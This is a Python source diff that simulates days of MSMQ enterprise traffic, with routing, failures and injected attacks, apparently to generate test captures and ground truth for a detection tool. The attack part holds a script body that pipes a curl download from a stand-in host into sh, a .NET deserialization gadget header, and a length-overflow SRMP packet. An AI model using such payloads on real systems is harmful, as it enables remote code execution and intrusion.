@@ -1,0 +1,490 @@
+"""Days of an enterprise: applications with roles, a router, readers, failures and attacks; and their truth.
+
+1. `Rehearsal` plans what applications, programs and attackers do, and when; `network` plays it.
+2. Branches send orders over a hub, and the hosts of the center send transactional messages to each other, in
+   working hours and less at night.  Programs read the queues, answer, and stop for hours.  Links break, hosts
+   restart, a queue is closed.
+3. Sensor 0 is beside the hub, where attackers come in, and the next ones are beside the hosts of the center.
+4. Everything is determined by the seed.
+"""
+
+from __future__ import annotations
+
+import struct
+from functools import partial
+from ipaddress import IPv4Address
+from random import Random
+from typing import TYPE_CHECKING, Any, Final, NamedTuple
+
+import msmq_wire as mw
+from msmq_wire import GUID, mqmq, mqqb
+from msmq_wire.captures.rows.packets import CLOCK_TOLERANCE
+from msmq_wire.machines.session import Message, Settings
+from msmq_wire.values.errors import MsmqWireError, need_within
+
+from .connections import Faults
+from .network import Host, Network, Sensor
+from .statements import final_hop, state
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+
+    from .statements import Evidence, Letter
+    from .truth import Span
+    from .wire import Frame
+
+__all__ = ["Attack", "Dependency", "Outcome", "Rehearsal", "seconds_of"]
+
+_CLASS: Final = mqmq.MESSAGE_CLASS_VALUES
+_START: Final = 1_699_833_600  # a Monday, 00:00 UTC
+_HOUR, _DAY = 3600.0, 86_400.0
+_OPENS, _CLOSES, _WORKDAYS = 8, 18, 5
+_AT_NIGHT: Final = 0.03
+"""The rate of messages out of working hours."""
+_CENTER: Final = ("hub", "erp", "billing", "warehouse")
+_LEAST, _MOST = len(_CENTER) + 1, 250
+_UNITS: Final = {"s": 1.0, "m": 60.0, "h": _HOUR, "d": _DAY}
+_LONGEST: Final = 366 * _DAY
+_FOREVER: Final = 0xFFFFFFFF
+
+
+def seconds_of(text: str) -> float:
+    """Return the seconds of a duration such as ``7d``, ``12h``, ``30m`` or ``90s``.
+
+    Raises:
+        MsmqWireError: It is not one.
+    """
+    try:
+        return float(text[:-1]) * _UNITS[text[-1:]]
+    except (KeyError, ValueError):
+        raise MsmqWireError(f"expected a duration such as 7d, 12h, 30m or 90s, got {text!r}") from None
+
+
+class _Application(NamedTuple):
+    """What an application sends.
+
+    Attributes:
+        name: The beginning of the labels.
+        queue: Number of the queue.
+        rate: Messages an hour, in working hours.
+        size: The most bytes of a body.
+        options: Arguments of `Message`.
+    """
+
+    name: str
+    queue: int
+    rate: float
+    size: int
+    options: dict[str, Any]
+
+
+_ASKS: Final = dict.fromkeys(
+    ("positive_arrival", "positive_receive", "negative_arrival", "negative_receive"), True
+)
+_OF_BRANCHES: Final = (
+    ("erp", _Application("order", 0x11, 10, 3000, {"recoverable": True, "dead_letter": True, **_ASKS})),
+    ("erp", _Application("stock query", 0x12, 14, 200, {"reach_queue": 20, "be_received": 60})),
+    (
+        "warehouse",
+        _Application(
+            "stocktaking",
+            0x13,
+            2,
+            9000,
+            {"recoverable": True, "dead_letter": True, "reach_queue": 600, **_ASKS},
+        ),
+    ),
+)
+_OF_CENTER: Final = (
+    ("erp", "billing", _Application("invoice", 0x21, 30, 4000,
+                                    {"transactional": True, "final_ack": True, "journal": True})),
+    ("erp", "warehouse", _Application("shipment", 0x22, 25, 1500, {"transactional": True, **_ASKS})),
+    ("billing", "erp", _Application("payment", 0x23, 12, 800,
+                                    {"recoverable": True, "negative_arrival": True, "be_received": 7200})),
+)  # fmt: skip
+_ADMINISTRATION, _ANSWERS = 0x31, 0x32
+_CLOSED: Final = 0x13
+"""The number of the queue that is closed for a time."""
+
+
+class Outcome(NamedTuple):
+    """What became of a message.
+
+    Attributes:
+        message: Its identifier, as in the table `messages`.
+        source: Name of the host that sent it.
+        home: Name of the host with its queue.
+        destination: Format name of the queue.
+        label: Its label.
+        message_class: Number of its class.
+        sent_at: Seconds since 1970.
+        fate: What became of it: ``received``, ``refused``, ``expired``, ``reached``, ``forwarded`` or
+            ``sent``.
+        dead_lettered: Whether its sender put it into a dead-letter queue.
+        hops: Number of hops that were captured completely.
+        state: The state in `deliveries` that captured packets prove; ``unseen`` if no packet of it is there.
+        certain: Whether every byte was captured of all sessions between the queue managers of its hops.
+    """
+
+    message: str
+    source: str
+    home: str
+    destination: str
+    label: str
+    message_class: int
+    sent_at: int
+    fate: str
+    dead_lettered: bool
+    hops: int
+    state: str
+    certain: bool
+
+
+class Dependency(NamedTuple):
+    """What one host sent to a queue.
+
+    Attributes:
+        source: Name of the host.
+        address: Its IP address.
+        queue_manager: GUID of its queue manager.
+        home: Name of the host with the queue.
+        destination: Format name of the queue.
+        messages: Number of messages that were written to the wire.
+        captured: Number of those of which a packet was captured completely.
+        bytes: Size of the packets of these, each once.
+    """
+
+    source: str
+    address: str
+    queue_manager: str
+    home: str
+    destination: str
+    messages: int
+    captured: int
+    bytes: int
+
+
+class Attack(NamedTuple):
+    """What an attacker did.
+
+    Attributes:
+        pattern: Id of the pattern in `findings`.
+        time: Seconds since 1970.
+        src: IP address of the source.
+        dst: IP address of the destination; of several the first.
+        captured: Whether all bytes of it were captured.
+    """
+
+    pattern: str
+    time: float
+    src: str
+    dst: str
+    captured: bool
+
+
+class Rehearsal:
+    """An enterprise for some time.
+
+    Args:
+        duration: Seconds.
+        seed: The seed, which determines everything.
+        faults: The faults of captures; those of messages and of the directory have no effect.
+        managers: Number of queue managers, 5 to 250.
+        files: Number of sensors.
+
+    Raises:
+        MsmqWireError: A number is out of range.
+    """
+
+    def __init__(
+        self,
+        duration: float,
+        *,
+        seed: int = 0,
+        faults: Faults | None = None,
+        managers: int = 12,
+        files: int = 4,
+    ) -> None:
+        need_within("duration", duration, 1, _LONGEST, "1 second to 366 days")
+        need_within("managers", managers, _LEAST, _MOST, f"{_LEAST} to {_MOST}")
+        need_within("files", files, 1, managers, "1 to the number of queue managers")
+        self._random = random = Random(seed)  # noqa: S311  # repeatable on purpose
+        self._end = _START + duration
+        settings = Settings(insecure_nacks=True)
+        branches = [f"branch{number:02d}" for number in range(1, managers - len(_CENTER) + 1)]
+        self._names = [*_CENTER, *branches]
+        self._closed: tuple[float, float] = (0.0, 0.0)
+        hosts = [
+            Host(
+                name,
+                IPv4Address(f"10.{0 if name in _CENTER else 1}.0.{index + 1}"),
+                GUID(random.randbytes(16)),
+                settings,
+                self._judge,
+            )
+            for index, name in enumerate(self._names)
+        ]
+        for host in hosts:
+            for other in hosts:
+                if other is not host and (host.name in branches or other.name in branches):
+                    host.routes[other.name] = other.name if "hub" in {host.name, other.name} else "hub"
+        self._sensors = [
+            Sensor(f"sensor{number:02d}", name)
+            for number, name in zip(range(files), self._names, strict=False)
+        ]
+        self._net = Network(
+            random, hosts, self._sensors, faults or Faults(), start=_START, latency=(0.0005, 0.02)
+        )
+        self._net.on_received = self._received
+        self._stopped: dict[str, tuple[float, float]] = {}
+        self._attacks: list[tuple[str, float, str, str, Callable[[], bool]]] = []
+        self._bodies: dict[str, tuple[str, ...]] = {}
+        self._plan_applications(branches)
+        self._plan_failures()
+        self._plan_attacks(branches)
+
+    def run(self) -> Iterator[Frame | Span]:
+        """Yield frames in the order of capture, and spans."""
+        yield from self._net.run(self._end)
+
+    # ---------------------------------------------------------------------------------------- plans
+
+    def _judge(self, packet: mqmq.UserMessage) -> int | None:
+        begin, end = self._closed
+        queue = packet.UserHeader.DestinationQueue
+        number = getattr(queue, "PrivateQueueIdentifier", None)
+        if number == _CLOSED and begin <= self._net.now < end:
+            return _CLASS.MQMSG_CLASS_NACK_BAD_DST_Q
+        return None
+
+    def _moments(self, rate: float) -> Iterator[float]:
+        """Yield times at which an application sends, by its rate in working hours."""
+        now = float(_START)
+        while True:
+            now += self._random.expovariate(rate / _HOUR)
+            if now >= self._end:
+                return
+            day, hour = int((now - _START) // _DAY) % 7, (now % _DAY) / _HOUR
+            works = day < _WORKDAYS and _OPENS <= hour < _CLOSES
+            if works or self._random.random() < _AT_NIGHT:
+                yield now
+
+    def _plan_applications(self, branches: list[str]) -> None:
+        plans = [(branch, to, application) for branch in branches for to, application in _OF_BRANCHES]
+        for source, to, application in (*plans, *_OF_CENTER):
+            for number, at in enumerate(self._moments(application.rate), 1):
+                self._plan_message(at, source, to, application, f"{application.name} {number}")
+
+    def _plan_message(
+        self,
+        at: float,
+        source: str,
+        to: str,
+        application: _Application,
+        label: str,
+        body: bytes | None = None,
+    ) -> None:
+        own, target = self._net.hosts[source], self._net.hosts[to]
+        size = self._random.randrange(20, application.size)
+        more = application.options
+        if application.name == "stock query":
+            more = {**more, "response_queue": _private(own, _ANSWERS)}
+        message = Message(
+            _private(target, application.queue),
+            body if body is not None else bytes(self._random.choices(_LETTERS, k=size)),
+            label=label,
+            admin_queue=_private(own, _ADMINISTRATION),
+            **more,
+        )
+        self._net.at(at, lambda: self._net.send(source, to, message))
+
+    def _plan_failures(self) -> None:
+        """For every day: a link that breaks, a host that restarts, and a program that does not run."""
+        random = self._random
+        for day in range(int((self._end - _START) // _DAY) + 1):
+            begin = _START + day * _DAY
+            working = [begin + random.uniform(_OPENS, _CLOSES) * _HOUR for _ in range(4)]
+            branch, host = random.choice(self._names[len(_CENTER) :]), random.choice(self._names[1:])
+            outage, down = random.choice((90.0, 1800.0)), random.uniform(60, 400)
+            stop = working[2], working[2] + random.uniform(0.2, 3) * _HOUR
+            self._net.at(working[0], partial(self._net.break_link, branch, "hub", outage))
+            self._net.at(working[1], partial(self._net.restart, host, down))
+            self._net.at(working[2], partial(self._stop, random.choice(_CENTER[1:]), stop))
+            self._net.at(working[3], partial(self._close, (working[3], working[3] + 2 * _HOUR)))
+
+    def _stop(self, host: str, span: tuple[float, float]) -> None:
+        self._stopped[host] = span
+
+    def _close(self, span: tuple[float, float]) -> None:
+        self._closed = span
+
+    # --------------------------------------------------------------------------------------- programs
+
+    def _received(self, host: Host, packet: mqmq.UserMessage) -> None:
+        """A message is in its queue: a program will read it, or its time runs out before."""
+        now, stopped = self._net.now, self._stopped.get(host.name, (0.0, 0.0))
+        at = now + self._random.expovariate(1 / 3)
+        if stopped[0] <= at < stopped[1]:
+            at = stopped[1] + self._random.expovariate(1 / 60)
+        lasts = packet.UserHeader.TimeToBeReceived
+        due = packet.UserHeader.SentTime + lasts
+        if lasts != _FOREVER and due < at:
+            timeout = _CLASS.MQMSG_CLASS_NACK_RECEIVE_TIMEOUT
+            self._net.at(due, lambda: self._net.read(host.name, timeout, packet))
+            return
+        self._net.at(at, lambda: self._read(host, packet))
+
+    def _read(self, host: Host, packet: mqmq.UserMessage) -> None:
+        if not host.is_up:
+            self._net.at(self._net.now + 60, lambda: self._read(host, packet))
+            return
+        self._net.read(host.name, _CLASS.MQMSG_CLASS_ACK_RECEIVE, packet)
+        header = packet.UserHeader
+        if header.ResponseQueue is not None and not packet.MessagePropertiesHeader.MessageClass:
+            source = self._net.name_of(header.SourceQueueManager)
+            answer = Message(
+                _private(self._net.hosts[source], _ANSWERS),
+                b"in stock",
+                label="stock answer",
+                correlation=header.SourceQueueManager.bytes_le + header.MessageID.to_bytes(4, "little"),
+            )
+            self._net.send(host.name, source, answer)
+
+    # ---------------------------------------------------------------------------------------- attacks
+
+    def _plan_attacks(self, branches: list[str]) -> None:
+        random = self._random
+        span = self._end - _START
+        erp = str(self._net.hosts["erp"].ip)
+
+        def moment() -> float:
+            return _START + random.uniform(0.1, 0.9) * span
+
+        scanner = f"203.0.113.{random.randrange(1, 80)}"
+        at = moment()
+        for number in range(8):
+            request = _establish(GUID(bytes(8) + b"scanner" + b"\1"))
+            self._intrude(
+                ("scan",) if not number else (), at + number, scanner, f"10.0.0.{number + 1}", [(0, request)]
+            )
+        prober, overflower = (f"203.0.113.{first + random.randrange(40)}" for first in (100, 160))
+        self._intrude(("srmp-probe", "no-handshake"), moment(), prober, erp, [(0, _over_http())])
+        overflow = _over_http(length=0x7FFF_0000)
+        self._intrude(("srmp-overflow", "no-handshake"), moment(), overflower, erp, [(0, overflow)])
+        for pattern, body in (("executable-body", _SCRIPT), ("dotnet-gadget", _GADGET)):
+            branch, label = random.choice(branches), f"attack {pattern}"
+            self._plan_message(moment(), branch, "erp", _OF_BRANCHES[0][1], label, body)
+            self._bodies[label] = (pattern,)
+
+    def _intrude(
+        self, patterns: tuple[str, ...], at: float, src: str, dst: str, packets: list[tuple[int, bytes]]
+    ) -> None:
+        def intrude() -> None:
+            captured = self._net.intrude(src, dst, packets, self._sensors[0].name)
+            for pattern in patterns:
+                self._attacks.append((pattern, at, src, dst, captured))
+
+        self._net.at(at, intrude)
+
+    # ------------------------------------------------------------------------------------------ truth
+
+    def outcomes(self) -> Iterator[Outcome]:
+        """Yield what became of each message, after `run`."""
+        net = self._net
+        for letter in net.letters.values():
+            captured = [*letter.captured.values()]
+            hops = {row.hop for row in (*captured, *letter.passed.values()) if row.what == "carried"}
+            yield Outcome(
+                letter.message,
+                letter.source,
+                letter.home,
+                letter.destination,
+                letter.label,
+                letter.message_class,
+                letter.sent_at,
+                letter.fate,
+                letter.has_been("dead-lettered"),
+                len({row.hop for row in captured if row.what == "carried"}),
+                state(letter, captured, self._until(letter, captured)),
+                not {frozenset(hop) for hop in hops} & net.lost_pairs,
+            )
+
+    def _until(self, letter: Letter, captured: list[Evidence]) -> float:
+        """Return how far the capture of the sensor that saw the last hop of a message first counts."""
+        hop = final_hop(letter.home, captured)
+        rows = [row for row in captured if row.what == "carried" and row.hop == hop]
+        if not rows:
+            return 0.0
+        _, _, sensor = min(rows, key=lambda row: row.time).line.partition(" ")
+        return self._net.until[sensor] - CLOCK_TOLERANCE
+
+    def dependencies(self) -> Iterator[Dependency]:
+        """Yield what each host sent to each queue, without acknowledgments, after `run`."""
+        net = self._net
+        groups: dict[tuple[str, str, str], list[Any]] = {}
+        for letter in net.letters.values():
+            if not letter.message_class:
+                groups.setdefault((letter.source, letter.home, letter.destination), []).append(letter)
+        for (source, home, destination), letters in sorted(groups.items()):
+            host = net.hosts[source]
+            seen = [one for one in letters if any(row.what == "carried" for row in one.captured.values())]
+            size = sum(letter.size for letter in seen)
+            yield Dependency(
+                source, str(host.ip), str(host.identifier), home, destination, len(letters), len(seen), size
+            )
+
+    def attacks(self) -> Iterator[Attack]:
+        """Yield what attackers did, after `run`; a message with a bad body on each hop that was captured."""
+        for pattern, at, src, dst, captured in self._attacks:
+            yield Attack(pattern, at, src, dst, captured())
+        for letter in self._net.letters.values():
+            for pattern in self._bodies.get(letter.label, ()):
+                hops = {row.hop: row.time for row in letter.passed.values() if row.what == "carried"}
+                known = {row.hop for row in letter.captured.values() if row.what == "carried"}
+                for hop, time in sorted(hops.items()):
+                    src, dst = (str(self._net.hosts[name].ip) for name in hop)
+                    yield Attack(pattern, time, src, dst, hop in known)
+
+
+_LETTERS: Final = b"abcdefghijklmnopqrstuvwxyz 0123456789"
+_SCRIPT: Final = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
+
+
+def _private(host: Host, number: int) -> str:
+    return f"PRIVATE={host.identifier}\\{number:08x}"
+
+
+def _text(value: str) -> bytes:
+    """Return a LengthPrefixedString of less than 128 bytes ([MS-NRBF] 2.1.1.6)."""
+    return bytes([len(value)]) + value.encode()
+
+
+_GADGET: Final = (
+    b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0"  # SerializationHeaderRecord
+     b"\4\1\0\0\0" + _text("System.Data.DataSet") + struct.pack("<i", 0)  # SystemClassWithMembersAndTypes
+    + b"\x0b"  # MessageEnd
+)  # fmt: skip
+"""A serialized object of a class that is part of a public gadget chain; it has no members."""
+
+
+def _establish(client: GUID) -> bytes:
+    header = mqqb.EstablishConnectionHeader(ClientGuid=client)
+    return mw.encode(mqqb.EstablishConnection(EstablishConnectionHeader=header))
+
+
+def _over_http(length: int | None = None) -> bytes:
+    """Return a message with headers of a message over HTTP, whose envelope may have a wrong length."""
+    envelope, request = mw.mqrr.SRMPEnvelopeHeader(Data="<se:Envelope/>\0"), b"POST /msmq/q HTTP/1.1\r\n\r\n"
+    packet = mqmq.UserMessage.of(
+        SourceQueueManager=GUID(b"\x77" * 16),
+        MessageID=1,
+        SentTime=_START,
+        DestinationQueue="DIRECT=HTTP://10.0.0.2/msmq/q",
+        SRMPEnvelopeHeader=envelope,
+        CompoundMessageHeader=mw.mqrr.CompoundMessageHeader(Data=request),
+    )
+    data = bytearray(mw.encode(packet))
+    if length is not None:
+        at = data.index("<se:Envelope/>".encode("utf-16-le")) - 4
+        struct.pack_into("<I", data, at, length)
+    return bytes(data)
